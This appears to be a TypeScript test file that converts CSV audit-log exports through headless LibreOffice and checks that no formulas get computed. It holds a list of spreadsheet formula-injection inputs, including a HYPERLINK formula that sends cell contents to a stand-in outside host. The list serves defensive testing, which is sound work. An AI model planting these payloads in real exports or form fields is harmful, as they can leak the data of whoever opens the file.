/** The table of an export in a real spreadsheet: LibreOffice computes none of its cells. Where there is none it is said, and skipped. */
import { execFile } from 'node:child_process'
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { delimiter, join } from 'node:path'
import { promisify } from 'node:util'
import { describe, expect, it, onTestFinished } from 'vitest'
import { CSV_MARK, csvLine, isFormula } from '../../pure/csv/csv.ts'
import { createWords } from '../../pure/words/words.ts'
import { catalogue } from '../catalogue.ts'
import { csvHead, csvRow } from './as-csv.ts'
import type { LoggedEvent } from './logged.ts'

const soffice = (process.env['PATH'] ?? '')
  .split(delimiter)
  .map((folder) => join(folder, 'soffice'))
  .find((path) => existsSync(path))
if (soffice === undefined)
  process.stdout.write(
    'LibreOffice (soffice) is not installed: what it makes of our tables is not looked at\n',
  )

/** What somebody may have typed into a reason, or send as the name of their browser. */
const HOSTILE = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\t',
  'two\n=1+1',
  '=HYPERLINK("http://elsewhere.example/?"&A1,"Look")',
  '"=1+1"',
  '","=1+1',
  '";=1+1',
  "'=1+1",
  ';=1+1',
  '-',
  '--5',
  '+44 20 7946 0018',
  'say "yes"',
  'a,b;c\td',
  '=1+1\r\n=2+2',
  '{=1+1}',
  '%0A=1+1',
]

const saying = {
  words: createWords({ catalogue, language: 'en', locale: 'en-GB', zone: 'Europe/London' }),
  zone: 'Europe/London',
}
const eventOf = (text: string): LoggedEvent => ({
  id: '0195a000-0000-7000-8000-000000000002',
  at: '2026-06-04T15:40:12.345Z',
  receivedAt: '2026-06-04T15:40:12.345Z',
  source: 'enamel',
  category: 'config',
  action: 'session_rules.changed',
  outcome: 'ok',
  actor: { kind: 'person', id: '0195a000-0000-7000-8000-000000000003' },
  target: { type: 'clinic', id: '0195a000-0000-7000-8000-000000000001' },
  patient: null,
  session: null,
  device: null,
  count: 1,
  fields: {
    actor_name: text,
    target_name: text,
    before: text,
    after: text,
    reason: text,
    agent: text,
    note: text,
  },
  index: '7',
})

/** As whoever says yes to everything in the dialog opens it: commas, UTF-8, numbers are looked for, formulas computed. */
const AS_OPENED = 'CSV:44,34,76,1,,0,false,true,false,false,false,0,true'

/** The cells of each of these tables as LibreOffice has them, and how many of them it computes. */
async function opened(
  tables: Record<string, string>,
): Promise<Record<string, { cells: string[][]; formulas: number }>> {
  const folder = mkdtempSync(join(tmpdir(), 'enamel-test-'))
  onTestFinished(() => rmSync(folder, { recursive: true, force: true, maxRetries: 3 }))
  const names = Object.keys(tables)
  for (const [name, text] of Object.entries(tables)) writeFileSync(join(folder, `${name}.csv`), text)
  await promisify(execFile)(
    soffice ?? '',
    [
      `-env:UserInstallation=file://${join(folder, 'profile')}`,
      '--headless',
      '--convert-to',
      'fods',
      `--infilter=${AS_OPENED}`,
      '--outdir',
      folder,
      ...names.map((name) => join(folder, `${name}.csv`)),
    ],
    { timeout: 150_000 },
  )
  return Object.fromEntries(
    names.map((name) => {
      const xml = readFileSync(join(folder, `${name}.fods`), 'utf8')
      return [name, { cells: cellsOf(xml), formulas: xml.match(/table:formula=/g)?.length ?? 0 }]
    }),
  )
}

/** OpenDocument 1.3, part 3: §9.1 rows and cells, §6.1 text, its blanks and tabs. */
function cellsOf(xml: string): string[][] {
  const rows = xml.match(/<table:table-row\b[^>]*>[\s\S]*?<\/table:table-row>/g) ?? []
  return rows.map((row) =>
    [...row.matchAll(/<table:table-cell\b([^>]*?)(?:\/>|>([\s\S]*?)<\/table:table-cell>)/g)].flatMap(
      ([, attributes = '', inner = '']) => {
        const times = Number(/number-columns-repeated="(\d+)"/.exec(attributes)?.[1] ?? 1)
        return Array<string>(times).fill(textOf(inner))
      },
    ),
  )
}

const textOf = (inner: string): string =>
  [...inner.matchAll(/<text:p\b[^>]*?(?:\/>|>([\s\S]*?)<\/text:p>)/g)]
    .map(([, line = '']) => plain(line))
    .join('\n')

const NAMED: Readonly<Record<string, string>> = { lt: '<', gt: '>', quot: '"', apos: "'", amp: '&' }

const plain = (line: string): string =>
  line
    .replaceAll('<text:tab/>', '\t')
    .replaceAll(/<text:s(?: text:c="(\d+)")?\/>/g, (_tag, count: string | undefined) =>
      ' '.repeat(Number(count ?? 1)),
    )
    .replaceAll(/<[^>]*>/g, '')
    .replaceAll(/&(?:#(\d+)|#x([0-9a-f]+)|(\w+));/gi, (_entity, decimal?: string, hex?: string, name = '') =>
      decimal || hex
        ? String.fromCodePoint(decimal ? Number(decimal) : parseInt(hex ?? '', 16))
        : (NAMED[name] ?? ''),
    )

describe('an export as a table, opened in LibreOffice', () => {
  it.skipIf(soffice === undefined)(
    'has no formula, whatever somebody typed, and says what they typed',
    async () => {
      const rows = HOSTILE.map((text) => csvRow(eventOf(text), saying))
      const quoted = (text: string) => `"${text.replaceAll('"', '""')}"\r\n`
      const { ours, bare } = await opened({
        ours: `${CSV_MARK}${[csvHead(saying), ...rows].map(csvLine).join('')}`,
        bare: `${CSV_MARK}${HOSTILE.map(quoted).join('')}`,
      })
      // Without what we do to them LibreOffice does compute some of these: it is really asked.
      expect(bare?.formulas).toBeGreaterThan(0)
      expect(ours?.formulas).toBe(0)
      const [head = [], ...shown] = ours?.cells ?? []
      expect(head).toEqual(csvHead(saying))
      expect(shown).toHaveLength(HOSTILE.length)
      const texts = ['who', 'about', 'before', 'after', 'reason', 'agent'].map((column) =>
        head.indexOf(saying.words(`log_export.head.${column}` as 'log_export.head.who')),
      )
      for (const [place, text] of HOSTILE.entries()) {
        const said = (isFormula(text) ? `'${text}` : text).replaceAll(/\r\n?/g, '\n')
        expect(texts.map((column) => shown[place]?.[column])).toEqual(texts.map(() => said))
      }
    },
    180_000,
  )
})
